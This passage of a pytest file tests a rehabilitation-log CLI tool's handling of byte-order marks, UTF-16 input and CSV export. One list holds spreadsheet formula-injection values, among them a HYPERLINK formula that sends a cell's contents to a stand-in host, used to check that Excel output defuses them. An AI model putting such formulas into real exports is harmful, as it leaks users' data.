        assert out.read_bytes().decode() == command("compare", log, "--service", small_groups, "--format", form).out
    published = write("published.jsonl", *STORY[:4], event("2026-01-08", "P1", "publish_course", course="C1", checked=True))
    assert command("search", published, "--as-of", "2026-02-01", "--output", lines).status == 0
    assert lines.read_bytes().startswith(b'{"provider":"P1","course":"C1"')


def test_a_byte_order_mark_before_a_description_or_a_record_is_read_over(command: Command, small_groups: Path, write: Write, tmp_path: Path) -> None:
    log, service, record = write("log.jsonl", *STORY), tmp_path / "service.json", tmp_path / "record.json"
    service.write_bytes(b"\xef\xbb\xbf" + small_groups.read_bytes())
    assert command("replay", log, "--service", service) == command("replay", log, "--service", small_groups)
    assert command("compare", log, "--service", service).status == 1
    record.write_bytes(b"\xef\xbb\xbf" + WITH_FAILINGS.read_bytes())
    plain, marked = (command("check", file, "--service", service, "--format", "jsonl") for file in (WITH_FAILINGS, record))
    assert marked == plain and plain.status == 1
    described = [ServiceDescription.from_file(path).ids for path in (service, small_groups)]
    assert described[0] == described[1]


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_utf_16_is_named_and_what_to_do(encoding: str, command: Command, small_groups: Path, write: Write, tmp_path: Path) -> None:
    service, record = tmp_path / "service.json", tmp_path / "record.json"
    service.write_bytes(small_groups.read_text("utf-8").encode(encoding))
    record.write_bytes(WITH_FAILINGS.read_text("utf-8").encode(encoding))
    told = "this file is UTF-16; save it as UTF-8"
    answer = command("replay", write("log.jsonl", *STORY), "--service", service)
    assert (answer.status, answer.out, answer.err) == (3, "", f"rehab-rules: {service}: {told}\n")
    # Such a record cannot be read: of several that is 2, and 3 when none could.
    answer = command("check", record, WITH_FAILINGS, "--format", "jsonl")
    assert (answer.status, answer.err) == (2, f"rehab-rules: {record}: {told}\n") and answer.out
    answer = command("check", record)
    assert (answer.status, answer.out, answer.err) == (3, "", f"rehab-rules: {record}: {told}\n")
    with pytest.raises(InputError, match=told) as raised:
        ServiceDescription.from_file(service)
    assert (raised.value.code, raised.value.field) == ("invalid_value", None)


def test_a_log_with_a_byte_order_mark_is_as_the_contract_has_it(command: Command) -> None:
    answer = command("replay", "-", "--format", "jsonl", stdin=b"\xef\xbb\xbf" + "".join(f"{line}\n" for line in STORY).encode())
    first = said(answer.out)[0]
    assert answer.status == 2 and first["error"]["code"] == "invalid_value" and "field" not in first["error"]


WILD = ["=HYPERLINK(\"http://example.org/?\"&A1)", "+1", "-1", "@x", "\t=1", "\r=1"]


def test_csv_for_excel_has_a_mark_semicolons_and_no_formula(command: Command, write: Write, tmp_path: Path) -> None:
    ids = [*WILD, "K;1", "a=1", "Łódź"]
    log = write("log.jsonl", *(event("2026-01-02", "P1", "end_rehabilitation", client=id, **SERVICE) for id in ids))
    answers = {excel: printed("replay", log, "--format", "csv", "--language", "fi", *(["--excel"] if excel else [])).stdout for excel in (True, False)}
    assert answers[True].startswith(b"\xef\xbb\xbf") and not answers[False].startswith(b"\xef\xbb\xbf")
    text = {True: answers[True].decode("utf-8-sig"), False: answers[False].decode()}
    plain = list(csv.reader(io.StringIO(text[False], newline="")))
    defused = list(csv.reader(io.StringIO(text[True], newline=""), delimiter=";"))
    assert len(plain) == len(defused) == len(ids) + 1
    place = plain[0].index("client")
    assert [row[place] for row in plain[1:]] == ids
    assert [row[place] for row in defused[1:]] == [*(f"'{id}" for id in WILD), *ids[len(WILD) :]]
    # All else is the same: days, true and false, numbers.
    assert [[*row[:place], *row[place + 1 :]] for row in plain] == [[*row[:place], *row[place + 1 :]] for row in defused]
    assert {"2026-01-02", "false"} <= set(defused[1])
    file = tmp_path / "out.csv"
    assert command("replay", log, "--language", "fi", "--output", file, "--excel").status == 1
    assert file.read_bytes() == answers[True]


def test_a_row_of_csv_stays_one_row_whatever_is_in_an_id(write: Write) -> None:
    ids = ["K\rfalse\rK2", "K\n1", "K\r\n1", 'K"1', "K\r", " K ", "K\r\n"]
    log = write("log.jsonl", *(event("2026-01-02", "P1", "end_rehabilitation", client=id, **SERVICE) for id in ids))
    text = printed("replay", log, "--format", "csv").stdout.decode()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [row["client"] for row in rows] == ids
    assert '"K\rfalse\rK2"' in text and not text.endswith("\r\n")
